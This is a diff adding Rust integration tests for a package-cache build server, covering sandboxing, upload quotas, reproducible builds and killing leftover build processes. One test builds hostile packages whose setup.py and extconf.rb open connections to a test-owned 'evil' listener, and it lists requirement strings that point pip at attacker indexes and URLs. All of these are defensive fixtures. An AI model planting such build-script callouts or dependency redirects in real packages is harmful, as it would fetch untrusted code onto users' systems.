@@ -159,6 +159,11 @@ async fn as_user(uid: u32, script: &str) -> (i32, String) {
 
 #[tokio::test]
 async fn bad_requests_get_clear_4xx_answers() {
+    // Without root builds are off, and every request that gets past the
+    // JSON checks is answered with that.
+    if !needs_root("for builds to be on") {
+        return;
+    }
     let up = Upstreams::start(&[], None).await;
     let app = start(&up, 62300, |c| c.build.api_token = None).await;
     let url = app.api_url("/api/v1/builds");
@@ -982,4 +987,774 @@ async fn builds_keep_working_after_the_server_drops_root() {
         bin.log_lines()
     );
     bin.kill9().await;
+}
+
+/// Paths under `dir` (not following symlinks) that anyone may write.
+fn world_writable(dir: &Path) -> Vec<PathBuf> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut found = Vec::new();
+    let mut todo = vec![dir.to_path_buf()];
+    while let Some(path) = todo.pop() {
+        let meta = std::fs::symlink_metadata(&path).unwrap();
+        if meta.file_type().is_symlink() {
+            continue;
+        }
+        if meta.permissions().mode() & 0o002 != 0 {
+            found.push(path.clone());
+        }
+        if meta.is_dir() {
+            for entry in std::fs::read_dir(&path).unwrap() {
+                todo.push(entry.unwrap().path());
+            }
+        }
+    }
+    found.sort();
+    found
+}
+
+#[tokio::test]
+async fn with_builds_off_nothing_is_world_writable_and_requests_say_builds_are_off() {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let public = cache.join(".package-cache/build/inbox/public");
+    let exe = env!("CARGO_BIN_EXE_package-cache");
+    let off = [
+        "--cache",
+        cache.to_str().unwrap(),
+        "--source",
+        "http://127.0.0.1:9/",
+    ];
+    let bin = support::app::Binary::start(&off).await;
+    let api = format!("http://{}", bin.api_addr());
+    assert!(!public.exists(), "no public inbox while builds are off");
+    assert_eq!(world_writable(&cache), Vec::<PathBuf>::new());
+    let sha1 = "0".repeat(40);
+    for (method, path, body) in [
+        (
+            "POST",
+            "/api/v1/builds".to_string(),
+            serde_json::to_vec(&gem("pcpure", "1.0.0")).unwrap(),
+        ),
+        ("PUT", format!("/api/v1/inbox/{sha1}"), b"bytes".to_vec()),
+        (
+            "PUT",
+            "/load/remote/gem/pcpure-1.0.0.gem/ruby31".to_string(),
+            Vec::new(),
+        ),
+    ] {
+        let answer = call(method, &format!("{api}{path}"), body, &[]).await;
+        assert_eq!(answer.status, 503, "{method} {path}: {answer:?}");
+        let message = answer.json.as_str().unwrap_or_default();
+        assert!(
+            message.contains("builds are off") && message.contains("--runtime"),
+            "{method} {path}: {message:?}"
+        );
+    }
+    let source = dir.path().join("pcpure-1.0.0.gem");
+    std::fs::write(&source, b"not really a gem").unwrap();
+    for args in [
+        vec![
+            "build",
+            "--type",
+            "gem",
+            "--name",
+            "pcpure",
+            "--version",
+            "1.0.0",
+        ],
+        vec![
+            "build",
+            "--type",
+            "gem",
+            "--local",
+            source.to_str().unwrap(),
+        ],
+        vec!["inbox", "add", source.to_str().unwrap(), "--type", "gem"],
+    ] {
+        let out = Cmd::new(exe)
+            .args(["--cache", cache.to_str().unwrap()])
+            .args(&args)
+            .args(["--runtime", "ruby31", "--api", &api])
+            .limit(Duration::from_secs(30))
+            .run()
+            .await;
+        assert_eq!(out.code, 2, "{args:?}: {}", out.text());
+        assert!(
+            out.stderr.contains("builds are off"),
+            "{args:?}: {}",
+            out.text()
+        );
+    }
+    bin.kill9().await;
+    if !support::needs_root("to turn builds on") {
+        return;
+    }
+    // On: the public inbox is the one world-writable thing (sticky, not listable).
+    let mut on = off.to_vec();
+    on.extend([
+        "--runtime",
+        "ruby31=/usr/bin/ruby",
+        "--build-uids",
+        "62420-62421",
+    ]);
+    let bin = support::app::Binary::start(&on).await;
+    assert_eq!(world_writable(&cache), vec![public.clone()]);
+    let mode =
+        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&public).unwrap().permissions());
+    assert_eq!(mode & 0o7777, 0o1733);
+    bin.kill9().await;
+    // Off again: the inbox left behind is closed.
+    let bin = support::app::Binary::start(&off).await;
+    assert_eq!(world_writable(&cache), Vec::<PathBuf>::new());
+    bin.kill9().await;
+}
+#[tokio::test]
+async fn a_request_that_cannot_be_built_here_asks_the_origin_nothing() {
+    let Some((up, app)) = with_builds("to run builds as other uids", 62410).await else {
+        return;
+    };
+    let load = |path: &str| {
+        let url = app.api_url(path);
+        async move { support::api::call_with("PUT", &url, "", &[], BUILD_LIMIT).await }
+    };
+    for (path, says) in [
+        (
+            "/load/remote/gem/pcpure-1.0.0.gem/ruby99",
+            "unknown runtime",
+        ),
+        (
+            "/load/remote/pip/pc_pure-1.0.tar.gz/ruby99",
+            "unknown runtime",
+        ),
+        (
+            "/load/remote/pip/pc_pure-1.0.tar.gz/ruby31",
+            "cannot be built",
+        ),
+        ("/load/remote/gem/pcpure-1.0.0.gem/py311", "cannot be built"),
+        (
+            "/load/remote/npm/left-pad-1.0.0.tgz/ruby31",
+            "unknown package type",
+        ),
+        ("/load/local/gem/pcpure-1.0.0.gem/ruby99", "unknown runtime"),
+    ] {
+        let answer = load(path).await;
+        assert_eq!(answer.status, 400, "{path}: {answer:?}");
+        let message = answer.json.as_str().unwrap_or_default();
+        assert!(message.contains(says), "{path}: {message:?}");
+    }
+    for request in [
+        json!({"location": "remote", "type": "gem", "name": "pcpure", "version": "1.0.0", "runtime": "ruby99"}),
+        json!({"location": "remote", "type": "pip", "name": "pc_pure", "version": "1.0", "runtime": "ruby31"}),
+    ] {
+        let answer = post(&app.api_url("/api/v1/builds"), &request).await;
+        assert_eq!(answer.status, 400, "{request}: {answer:?}");
+    }
+    for site in [&up.gems, &up.index, &up.files] {
+        assert_eq!(site.log().len(), 0, "{:?}", site.log());
+    }
+    // The same request for a configured runtime does reach the origin.
+    let built = load("/load/remote/gem/pcpure-1.0.0.gem/ruby31").await;
+    assert_eq!(built.status, 204, "{built:?}");
+    assert!(!up.gems.requests_for("/info/pcpure").is_empty());
+    app.stop().await;
+}
+
+/// `n` files of `size` distinct bytes in `dir` (readable by anyone): (path, SHA1).
+fn upload_files(dir: &Path, prefix: &str, n: usize, size: usize) -> Vec<(PathBuf, String)> {
+    (0..n)
+        .map(|i| {
+            let bytes = support::client::bytes_of(size, (i as u64) * 31 + prefix.len() as u64);
+            let mut bytes = bytes.to_vec();
+            bytes.extend_from_slice(format!("{prefix}{i}").as_bytes());
+            let path = dir.join(format!("{prefix}{i}.bin"));
+            std::fs::write(&path, &bytes).unwrap();
+            (path, sha1_hex(&bytes))
+        })
+        .collect()
+}
+
+/// As `uid`, PUTs every file at once with curl (`chunked`: without a
+/// length); each answer's status and body land in `out` (owned by `uid`).
+async fn upload_as(
+    uid: u32,
+    api: &str,
+    files: &[(PathBuf, String)],
+    out: &Path,
+    chunked: bool,
+) -> Vec<(u16, Value)> {
+    std::fs::create_dir_all(out).unwrap();
+    rustix::fs::chown(
+        out,
+        Some(rustix::process::Uid::from_raw(uid)),
+        Some(rustix::process::Gid::from_raw(uid)),
+    )
+    .unwrap();
+    let header = if chunked {
+        "-H 'Transfer-Encoding: chunked'"
+    } else {
+        ""
+    };
+    let mut script = String::new();
+    for (i, (path, sha1)) in files.iter().enumerate() {
+        script.push_str(&format!(
+            "curl -s {header} -o '{out}/{i}.json' -w '%{{http_code}}' -X PUT --data-binary '@{path}' '{api}/api/v1/inbox/{sha1}' > '{out}/{i}.code' &\n",
+            out = out.display(),
+            path = path.display(),
+        ));
+    }
+    script.push_str("wait\n");
+    let (code, text) = as_user(uid, &script).await;
+    assert_eq!(code, 0, "{text}");
+    (0..files.len())
+        .map(|i| {
+            let code = std::fs::read_to_string(out.join(format!("{i}.code"))).unwrap();
+            let body = std::fs::read(out.join(format!("{i}.json"))).unwrap_or_default();
+            let json = serde_json::from_slice(&body).unwrap_or(Value::Null);
+            (code.trim().parse().unwrap_or(0), json)
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn uploads_are_counted_per_user_and_concurrent_ones_never_pass_the_quota() {
+    if !needs_root("to upload as two non-root users") {
+        return;
+    }
+    const QUOTA: u64 = 1 << 20;
+    const SIZE: usize = 400 << 10;
+    let up = Upstreams::start(&[], None).await;
+    let app = start(&up, 62430, |c| c.build.inbox_quota = QUOTA).await;
+    let api = base(&app);
+    let scratch = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(
+        scratch.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let (alice, bob) = (62438, 62439);
+    let alice_files = upload_files(scratch.path(), "a", 3, SIZE);
+    let bob_files = upload_files(scratch.path(), "b", 3, SIZE);
+    // Both users at once, three uploads each: two of each user's fit.
+    let (out_a, out_b) = (scratch.path().join("out-a"), scratch.path().join("out-b"));
+    let (a, b) = tokio::join!(
+        upload_as(alice, &api, &alice_files, &out_a, false),
+        upload_as(bob, &api, &bob_files, &out_b, false),
+    );
+    for (who, answers) in [("alice", &a), ("bob", &b)] {
+        let mut codes: Vec<u16> = answers.iter().map(|(code, _)| *code).collect();
+        codes.sort();
+        assert_eq!(codes, [201, 201, 503], "{who}: {answers:?}");
+        let refused = answers.iter().find(|(code, _)| *code == 503).unwrap();
+        let message = refused.1.as_str().unwrap_or_default();
+        assert!(
+            message.contains(&format!("uid {}", if who == "alice" { alice } else { bob }))
+                && message.contains("quota"),
+            "{who}: {message}"
+        );
+    }
+    // Without a length, bytes are counted as they come: refused mid-way,
+    // and what was counted is given back.
+    let more = upload_files(scratch.path(), "c", 1, SIZE);
+    let late = upload_as(alice, &api, &more, &scratch.path().join("out-c"), true).await;
+    assert_eq!(late[0].0, 503, "{late:?}");
+    // A build request that claims one of alice's uploads frees its share.
+    let (index, (_, claimed)) = a
+        .iter()
+        .enumerate()
+        .find(|(_, (code, _))| *code == 201)
+        .unwrap();
+    let answer = post(
+        &app.api_url("/api/v1/builds"),
+        &json!({"location": "local", "type": "gem", "name": alice_files[index].1,
+            "runtime": "ruby31", "upload": claimed["upload"]}),
+    )
+    .await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let again = upload_as(alice, &api, &more, &scratch.path().join("out-d"), true).await;
+    assert_eq!(again[0].0, 201, "{again:?}");
+    // One upload larger than the whole quota is never accepted.
+    let huge = upload_files(scratch.path(), "h", 1, QUOTA as usize + 1);
+    let refused = upload_as(bob, &api, &huge, &scratch.path().join("out-h"), false).await;
+    assert_eq!(refused[0].0, 413, "{refused:?}");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn native_packages_build_to_the_same_bytes_in_two_caches() {
+    if !needs_root("to run builds as other uids") {
+        return;
+    }
+    let up = Upstreams::start(&[], None).await;
+    // Two servers, two cache directories (so two work roots at different
+    // paths), two sets of build uids.
+    let (first, second) = tokio::join!(start(&up, 62440, |_| {}), start(&up, 62450, |_| {}));
+    assert_ne!(first.cache, second.cache);
+    for (request, extension) in [
+        (sdist("pc_native", "1.0"), "pc_native.cpython-"),
+        (
+            sdist("MarkupSafe", "2.1.5"),
+            "markupsafe/_speedups.cpython-",
+        ),
+        (
+            sdist("simplejson", "3.19.2"),
+            "simplejson/_speedups.cpython-",
+        ),
+        (gem("pcnative", "1.0.0"), "pcnative.so"),
+    ] {
+        let (a, b) = tokio::join!(built(&first, &request), built(&second, &request));
+        let name = a["artifact"].as_str().unwrap();
+        let path = format!("/api/v1/artifacts/{name}");
+        let (url_a, url_b) = (first.api_url(&path), second.api_url(&path));
+        let (bytes_a, bytes_b) =
+            tokio::join!(call("GET", &url_a, "", &[]), call("GET", &url_b, "", &[]));
+        let files = members(&bytes_a.bytes);
+        assert!(
+            files
+                .iter()
+                .any(|f| f.contains(extension) && f.ends_with(".so")),
+            "{name}: a native extension was built: {files:?}"
+        );
+        eprintln!(
+            "{name}: sha256 {} (first cache), {} (second cache)",
+            a["sha256"], b["sha256"]
+        );
+        assert_eq!(
+            a["sha256"], b["sha256"],
+            "{name}: the same bytes from both caches"
+        );
+        assert_eq!(bytes_a.bytes, bytes_b.bytes, "{name}");
+    }
+    first.stop().await;
+    second.stop().await;
+}
+
+/// An sdist `NAME-1.0.tar.gz` whose `build-system.requires` is `requires`
+/// and whose setup.py runs `code` first.
+fn sdist_requiring(name: &str, requires: &[String], code: &str) -> Vec<u8> {
+    let mut out = Vec::new();
+    {
+        let gz = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
+        let mut tar = tar::Builder::new(gz);
+        let toml_list: Vec<String> = requires
+            .iter()
+            .map(|r| format!("\"{}\"", r.replace('\\', "\\\\").replace('"', "\\\"")))
+            .collect();
+        let files = [
+            ("pyproject.toml", format!("[build-system]\nrequires = [{}]\nbuild-backend = \"setuptools.build_meta\"\n", toml_list.join(", "))),
+            ("setup.py", format!("{code}\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0', py_modules=[])\n")),
+            ("PKG-INFO", format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")),
+        ];
+        for (path, text) in files {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(text.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            tar.append_data(&mut header, format!("{name}-1.0/{path}"), text.as_bytes())
+                .unwrap();
+        }
+        tar.into_inner().unwrap().finish().unwrap();
+    }
+    out
+}
+
+/// Publishes project `name` on the upstream index with one file at `url`
+/// (relative to the index host, or absolute), as a PEP 691 and a PEP 503 page.
+fn publish(up: &Upstreams, name: &str, filename: &str, url: &str, sha256: &str) {
+    let dir = up.tmp.path().join("index/simple").join(name);
+    std::fs::create_dir_all(&dir).unwrap();
+    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "versions": ["1.0"],
+        "files": [{"filename": filename, "url": url, "hashes": {"sha256": sha256}}]});
+    std::fs::write(dir.join("index.json"), page.to_string()).unwrap();
+    std::fs::write(
+        dir.join("index.html"),
+        format!("<!DOCTYPE html>\n<html><body><a href=\"{url}#sha256={sha256}\">{filename}</a></body></html>\n"),
+    )
+    .unwrap();
+}
+
+/// A gem `NAME-1.0.0.gem` whose `ext/NAME/extconf.rb` runs `ruby` first.
+async fn gem_with_extconf(dir: &Path, name: &str, ruby: &str) -> Vec<u8> {
+    let src = dir.join(name);
+    std::fs::create_dir_all(src.join(format!("ext/{name}"))).unwrap();
+    std::fs::write(
+        src.join(format!("ext/{name}/extconf.rb")),
+        format!("{ruby}\nrequire 'mkmf'\ncreate_makefile('{name}')\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        src.join(format!("ext/{name}/{name}.c")),
+        format!("void Init_{name}(void) {{}}\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        src.join(format!("{name}.gemspec")),
+        format!(
+            "Gem::Specification.new do |s|\n  s.name = {name:?}\n  s.version = '1.0.0'\n  s.summary = 'x'\n  s.authors = ['t']\n  s.license = 'MIT'\n  s.files = ['ext/{name}/extconf.rb', 'ext/{name}/{name}.c']\n  s.extensions = ['ext/{name}/extconf.rb']\nend\n"
+        ),
+    )
+    .unwrap();
+    Cmd::new("gem")
+        .args(["build", &format!("{name}.gemspec")])
+        .current_dir(&src)
+        .limit(Duration::from_secs(60))
+        .ok()
+        .await;
+    std::fs::read(src.join(format!("{name}-1.0.0.gem"))).unwrap()
+}
+
+/// Uploads `bytes` and asks for a local build: the answer.
+async fn submit_local(
+    app: &TestApp,
+    kind: &str,
+    runtime: &str,
+    bytes: &[u8],
+) -> support::api::Answer {
+    let sha1 = sha1_hex(bytes);
+    let up = call(
+        "PUT",
+        &app.api_url(&format!("/api/v1/inbox/{sha1}")),
+        bytes.to_vec(),
+        &[],
+    )
+    .await;
+    assert_eq!(up.status, 201, "{up:?}");
+    post(
+        &app.api_url("/api/v1/builds"),
+        &json!({"location": "local", "type": kind, "name": sha1, "runtime": runtime,
+            "upload": up.json["upload"]}),
+    )
+    .await
+}
+
+#[tokio::test]
+async fn hostile_requirements_and_build_scripts_reach_nothing_but_the_cache() {
+    let Some((up, app)) = with_builds("to run builds as other uids", 62460).await else {
+        return;
+    };
+    // A listener the test owns, on the host's loopback: what a hostile build
+    // would like to reach. It counts every connection it accepts.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let evil = listener.local_addr().unwrap();
+    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = seen.clone();
+    let acceptor = tokio::spawn(async move {
+        while let Ok((_stream, _)) = listener.accept().await {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+
+    // Requirements that name a place, not a project on the index: refused
+    // when the source is handed in, with a client error that says why.
+    let hostile: Vec<Vec<String>> = vec![
+        vec![format!(
+            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
+        )],
+        vec![format!("pcevil@http://{evil}/pcevil-1.0.tar.gz")],
+        vec![format!("pcevil[extra] @ https://{evil}/pcevil.zip")],
+        vec![format!("pcevil @ git+http://{evil}/pcevil.git")],
+        vec![format!("git+http://{evil}/pcevil.git#egg=pcevil")],
+        vec![format!("http://{evil}/pcevil-1.0-py3-none-any.whl")],
+        vec![format!("file:///tmp/pcevil-1.0-py3-none-any.whl")],
+        vec!["./pcevil".into()],
+        vec!["/tmp/pcevil".into()],
+        vec![
+            "setuptools".into(),
+            format!("--index-url=http://{evil}/simple/"),
+        ],
+        vec![format!("-i http://{evil}/simple/")],
+        vec![format!(
+            "setuptools --extra-index-url http://{evil}/simple/"
+        )],
+        vec![format!("--find-links=http://{evil}/")],
+        vec![format!("setuptools -f http://{evil}/")],
+        vec!["setuptools==68.2.2 --hash=sha256:00".into()],
+        vec![format!(
+            "setuptools; python_version > '3' --index-url http://{evil}/"
+        )],
+    ];
+    for (i, requires) in hostile.iter().enumerate() {
+        let bytes = sdist_requiring(&format!("pcreq{i}"), requires, "");
+        let answer = submit_local(&app, "pip", "py311", &bytes).await;
+        let message = answer.json.as_str().unwrap_or_default();
+        assert_eq!(answer.status, 400, "{requires:?}: {answer:?}");
+        assert!(
+            message.contains("build requirement") && message.contains("index"),
+            "{requires:?}: {message}"
+        );
+    }
+    // A remote sdist with such a requirement: the job fails, the client's fault.
+    let remote = sdist_requiring(
+        "pchostile",
+        &[format!(
+            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
+        )],
+        "",
+    );
+    std::fs::create_dir_all(up.tmp.path().join("index/packages")).unwrap();
+    std::fs::write(
+        up.tmp.path().join("index/packages/pchostile-1.0.tar.gz"),
+        &remote,
+    )
+    .unwrap();
+    publish(
+        &up,
+        "pchostile",
+        "pchostile-1.0.tar.gz",
+        "../../packages/pchostile-1.0.tar.gz",
+        &sha256(&remote),
+    );
+    let answer = post(&app.api_url("/api/v1/builds"), &sdist("pchostile", "1.0")).await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    assert_eq!(job["error"]["class"], "client", "{job:#}");
+    assert!(
+        job["error"]["message"].as_str().unwrap().contains("URL"),
+        "{job:#}"
+    );
+    let load = support::api::call_with(
+        "PUT",
+        &app.api_url("/load/remote/pip/pchostile-1.0.tar.gz/py311"),
+        "",
+        &[],
+        BUILD_LIMIT,
+    )
+    .await;
+    assert_eq!(load.status, 422, "{load:?}");
+
+    // A plain requirement whose index page links elsewhere: pip follows the
+    // link from the job's network, where no such address exists.
+    publish(
+        &up,
+        "pcevil",
+        "pcevil-1.0-py3-none-any.whl",
+        &format!("http://{evil}/pcevil-1.0-py3-none-any.whl"),
+        &"0".repeat(64),
+    );
+    let answer = submit_local(
+        &app,
+        "pip",
+        "py311",
+        &sdist_requiring("pcfollows", &["pcevil".into()], ""),
+    )
+    .await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let log = job["log_tail"].as_str().unwrap_or_default();
+    assert!(
+        log.contains("Connection refused") || log.contains("Errno 111"),
+        "{log}"
+    );
+
+    // Build scripts that connect directly: an sdist's setup.py, a gem's extconf.rb.
+    let connect = format!(
+        "import socket; socket.create_connection(('{}', {}), timeout=5)",
+        evil.ip(),
+        evil.port()
+    );
+    let answer = submit_local(
+        &app,
+        "pip",
+        "py311",
+        &sdist_requiring("pcdials", &["setuptools>=40.8.0".into()], &connect),
+    )
+    .await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let scratch = tempfile::tempdir().unwrap();
+    let ruby = format!("require 'socket'\nbegin\n  TCPSocket.new('{}', {}).close\n  puts 'CONNECTED'\nrescue SystemCallError => e\n  abort \"no connection: #{{e.class}}\"\nend", evil.ip(), evil.port());
+    let gem = gem_with_extconf(scratch.path(), "pcdialgem", &ruby).await;
+    let answer = submit_local(&app, "gem", "ruby31", &gem).await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let log = job["log_tail"].as_str().unwrap_or_default();
+    assert!(
+        log.contains("no connection") && !log.contains("CONNECTED"),
+        "{log}"
+    );
+
+    // Normal builds still fetch their requirements, through the cache.
+    built(&app, &sdist("pc_pure", "1.0")).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let connections = seen.load(std::sync::atomic::Ordering::SeqCst);
+    eprintln!("hostile builds: the test's listener at {evil} saw {connections} connections");
+    assert_eq!(connections, 0, "a build reached {evil}");
+    acceptor.abort();
+    app.stop().await;
+}
+
+/// Live (not zombie) processes run by any uid of `uids`: "PID UID COMMAND".
+fn processes_of_uids(uids: std::ops::Range<u32>) -> Vec<String> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(status) = std::fs::read_to_string(entry.path().join("status")) else {
+            continue;
+        };
+        let field = |name: &str| {
+            status
+                .lines()
+                .find_map(|l| l.strip_prefix(name))
+                .unwrap_or("")
+                .trim()
+                .to_string()
+        };
+        if field("State:").starts_with('Z') {
+            continue;
+        }
+        let uid = field("Uid:")
+            .split_whitespace()
+            .filter_map(|id| id.parse::<u32>().ok())
+            .find(|id| uids.contains(id));
+        if let Some(uid) = uid {
+            let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
+            found.push(format!(
+                "{} {uid} {}",
+                entry.file_name().to_string_lossy(),
+                String::from_utf8_lossy(&cmdline).replace('\0', " ").trim()
+            ));
+        }
+    }
+    found
+}
+
+#[tokio::test]
+async fn builds_die_with_a_killed_server_and_a_restarted_one_builds_again() {
+    if !needs_root("to run builds as other uids") {
+        return;
+    }
+    let up = Upstreams::start(&[], None).await;
+    for (round, user) in [(0u32, None), (1, Some("nobody"))] {
+        let uids = 62470 + 10 * round..62474 + 10 * round;
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::set_permissions(
+            dir.path(),
+            std::os::unix::fs::PermissionsExt::from_mode(0o711),
+        )
+        .unwrap();
+        let cache = dir.path().join("cache");
+        let (pypi, files, gems) = (
+            format!("pypi={}/", up.index.url()),
+            format!("pypi={}", up.files.url()),
+            format!("rubygems={}/", up.gems.url()),
+        );
+        let range = format!("{}-{}", uids.start, uids.end - 1);
+        let mut args = vec![
+            "--cache",
+            cache.to_str().unwrap(),
+            "--mirror",
+            &pypi,
+            "--files-host",
+            &files,
+            "--mirror",
+            &gems,
+            "--runtime",
+            "py311=/usr/bin/python3",
+            "--runtime",
+            "ruby31=/usr/bin/ruby",
+            "--build-uids",
+            &range,
+            "--build-concurrency",
+            "2",
+        ];
+        if let Some(user) = user {
+            args.extend(["--user", user]);
+        }
+        let who = user.unwrap_or("root");
+        let bin = support::app::Binary::start(&args).await;
+        let api = format!("http://{}", bin.api_addr());
+        // A long build, with processes that leave their session.
+        let code = "import os, subprocess, time\nsubprocess.Popen(['setsid', 'sleep', '300'])\nos.system('sleep 300 &')\ntime.sleep(300)";
+        let bytes = sdist_running("pclong", code);
+        let sha1 = sha1_hex(&bytes);
+        let upload = call("PUT", &format!("{api}/api/v1/inbox/{sha1}"), bytes, &[]).await;
+        assert_eq!(upload.status, 201, "{upload:?}");
+        let answer = post(
+            &format!("{api}/api/v1/builds"),
+            &json!({"location": "local", "type": "pip", "name": sha1, "runtime": "py311",
+                "upload": upload.json["upload"]}),
+        )
+        .await;
+        assert_eq!(answer.status, 202, "{answer:?}");
+        let until = Instant::now() + BUILD_LIMIT;
+        while processes_of_uids(uids.clone())
+            .iter()
+            .filter(|p| p.contains("sleep 300"))
+            .count()
+            < 2
+        {
+            assert!(
+                Instant::now() < until,
+                "{who}: the long build never got going"
+            );
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let during = processes_of_uids(uids.clone());
+        bin.kill9().await;
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        let after = processes_of_uids(uids.clone());
+        eprintln!(
+            "{who}: {} build processes before SIGKILL, {} one second after",
+            during.len(),
+            after.len()
+        );
+        assert_eq!(
+            after,
+            Vec::<String>::new(),
+            "{who}: outlived the server: was {during:?}"
+        );
+
+        // Left over from elsewhere: killed at start-up, before a uid is handed out.
+        let mut stray = tokio::process::Command::new("setpriv")
+            .args([
+                format!("--reuid={}", uids.start + 1),
+                format!("--regid={}", uids.start + 1),
+                "--clear-groups".into(),
+                "sleep".into(),
+                "300".into(),
+            ])
+            .kill_on_drop(true)
+            .spawn()
+            .unwrap();
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        assert_eq!(processes_of_uids(uids.clone()).len(), 1);
+        let bin = support::app::Binary::start(&args).await;
+        assert_eq!(
+            processes_of_uids(uids.clone()),
+            Vec::<String>::new(),
+            "{who}"
+        );
+        let status = tokio::time::timeout(Duration::from_secs(5), stray.wait())
+            .await
+            .unwrap()
+            .unwrap();
+        assert!(!status.success(), "the stray process was killed: {status}");
+        // The restarted server builds again (the interrupted job runs again
+        // beside it).
+        let api = format!("http://{}", bin.api_addr());
+        let answer = post(&format!("{api}/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
+        assert_eq!(answer.status, 202, "{answer:?}");
+        let job = poll(
+            &api,
+            answer.json["id"].as_str().unwrap(),
+            "its end",
+            |job| ENDED.contains(&job["state"].as_str().unwrap_or_default()),
+        )
+        .await;
+        assert_eq!(
+            job["state"],
+            "complete",
+            "{who}: {job:#}\n{:#?}",
+            bin.log_lines()
+        );
+        bin.kill9().await;
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        assert_eq!(
+            processes_of_uids(uids.clone()),
+            Vec::<String>::new(),
+            "{who}"
+        );
+    }
 }
